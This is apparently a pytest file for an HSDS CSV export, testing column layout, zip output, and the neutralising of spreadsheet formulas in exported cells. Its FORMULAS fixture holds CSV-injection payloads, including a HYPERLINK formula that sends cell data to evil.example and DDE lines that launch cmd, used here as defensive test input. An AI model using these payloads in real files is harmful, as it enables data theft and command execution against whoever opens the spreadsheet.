"""HSDS tabular export: the layout's files, with the specification's column names, and cells a
spreadsheet cannot run as formulas."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

from flask import Flask

from tests.hsds.helpers import example, opens_as_formula, small_service
from vejviser.db import db
from vejviser.hsds.csvcells import restore
from vejviser.hsds.export import all_offers, iter_documents
from vejviser.hsds.tabular import flatten, layout, render, write_tabular

EXPECTED = {"organizations.csv", "services.csv", "locations.csv", "service_at_location.csv",
            "schedules.csv", "phones.csv", "contacts.csv", "languages.csv", "addresses.csv",
            "attributes.csv", "taxonomies.csv", "taxonomy_terms.csv", "accessibility.csv"}


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_headers_are_the_specifications() -> None:
    for name, rows in example("tabular.json").items():
        assert layout()[name] == list(rows[0]), name


def test_csv_export_writes_the_tabular_layout(seeded_app: Flask, tmp_path: Path) -> None:
    with seeded_app.app_context():
        offers = all_offers(db.session)
        documents = list(iter_documents(offers))
    out = tmp_path / "csv"
    names = write_tabular(documents, out)
    assert EXPECTED <= set(names) == {path.name for path in out.iterdir()}
    for name, columns in layout().items():
        with (out / name).open(encoding="utf-8", newline="") as handle:
            assert next(csv.reader(handle)) == columns, name
    services = _read(out / "services.csv")
    assert {row["id"] for row in services} == {offer.id for offer in offers}
    links = _read(out / "service_at_location.csv")
    locations = {row["id"] for row in _read(out / "locations.csv")}
    assert links and all(row["location_id"] in locations for row in links)
    schedules = _read(out / "schedules.csv")
    # a row belongs to a service as a whole, or to one of its places
    assert all(row["service_id"] in {s["id"] for s in services}
               or row["service_at_location_id"] in {link["id"] for link in links}
               for row in schedules)
    assert any(row["service_at_location_id"] for row in schedules)
    terms = {row["id"] for row in _read(out / "taxonomy_terms.csv")}
    assert all(row["taxonomy_term_id"] in terms for row in _read(out / "attributes.csv"))
    assert len(_read(out / "organizations.csv")) == len({o.organization_id for o in offers})


def test_csv_export_to_zip(seeded_app: Flask, tmp_path: Path) -> None:
    with seeded_app.app_context():
        documents = list(iter_documents(all_offers(db.session)))
    target = tmp_path / "hsds.zip"
    write_tabular(documents, target)
    with zipfile.ZipFile(target) as archive:
        assert EXPECTED <= set(archive.namelist())
        text = archive.read("services.csv").decode("utf-8")
    assert len(list(csv.DictReader(io.StringIO(text)))) == len(documents)


#: Cells a spreadsheet would run, and text that starts with our own escape.
FORMULAS = {
    "description": '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
    "alternate_name": "=cmd|' /C calc'!A0",
    "alert": "-2+3+cmd|' /C calc'!A1",
    "fees_description": "+SUM(1+1)",
    "application_process": "@SUM(1+9)*cmd|' /C calc'!A0",
    "eligibility_description": "'tis the season",
}
ORGANIZATION = {"name": "'=1+1", "description": "\t=1+1", "alternate_name": "\r=2+2"}


def _hostile_service() -> dict[str, Any]:
    document = small_service(name="-Formel", **FORMULAS)
    document["organization"].update(ORGANIZATION)
    document["phones"][0]["number"] = "+45 66 13 13 72"
    document["service_at_locations"][0]["location"]["name"] = "-"
    return document


def _as_text(value: Any) -> str:
    """What a CSV import must get back from a cell: the JSON value as text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def _tables(files: dict[str, str]) -> dict[str, list[dict[str, str]]]:
    return {name: list(csv.DictReader(io.StringIO(text, newline=""))) for name, text in
            files.items()}


def _assert_safe_and_restorable(written: dict[str, list[dict[str, str]]],
                                documents: list[dict[str, Any]]) -> None:
    expected = flatten(documents)
    for name, columns in layout().items():
        assert len(written[name]) == len(expected.get(name, [])), name
        for row, source in zip(written[name], expected.get(name, [])):
            for column in columns:
                assert not opens_as_formula(row[column]), (name, column, row[column])
                assert restore(row[column]) == _as_text(source.get(column)), (name, column)


def test_csv_cells_never_start_a_formula_and_restore_exactly() -> None:
    documents = [_hostile_service()]  # as given: no import has cleaned the leading "\r"
    written = _tables(render(flatten(documents)))
    (service,), (organization,) = written["services.csv"], written["organizations.csv"]
    assert service["description"] == "'" + FORMULAS["description"]
    assert service["eligibility_description"] == "''tis the season"
    assert service["name"] == "'-Formel"
    assert organization["description"] == "'\t=1+1"
    assert organization["alternate_name"] == "'\r=2+2"
    assert written["phones.csv"][0]["number"] == "+45 66 13 13 72"
    assert written["locations.csv"][0]["name"] == "'-"
    _assert_safe_and_restorable(written, documents)


def test_exported_csv_says_what_the_json_export_says(seeded_app: Flask, tmp_path: Path) -> None:
    """Formulas stored in the catalogue: the CSV export neutralises them, and restoring every
    cell gives back exactly the values of the JSON export of the same catalogue."""
    runner = seeded_app.test_cli_runner()
    source = tmp_path / "hostile.json"
    source.write_text(json.dumps(_hostile_service()), encoding="utf-8")
    assert runner.invoke(args=["import", str(source)]).exit_code == 0
    target = tmp_path / "hsds.zip"
    result = runner.invoke(args=["export", "--format", "hsds-csv", "--output", str(target)])
    assert result.exit_code == 0, result.output
    page = tmp_path / "hsds.json"
    assert runner.invoke(args=["export", "--output", str(page)]).exit_code == 0
    with zipfile.ZipFile(target) as archive:
        written = _tables({name: archive.read(name).decode("utf-8")
                           for name in archive.namelist()})
    services = {row["name"]: row for row in written["services.csv"]}
    assert services["'-Formel"]["description"] == "'" + FORMULAS["description"]
    assert services["'-Formel"]["alert"] == "'" + FORMULAS["alert"]
    organizations = {row["name"]: row for row in written["organizations.csv"]}
    assert organizations["''=1+1"]["description"] == "'\t=1+1"
    documents = json.loads(page.read_text(encoding="utf-8"))["contents"]
    _assert_safe_and_restorable(written, documents)
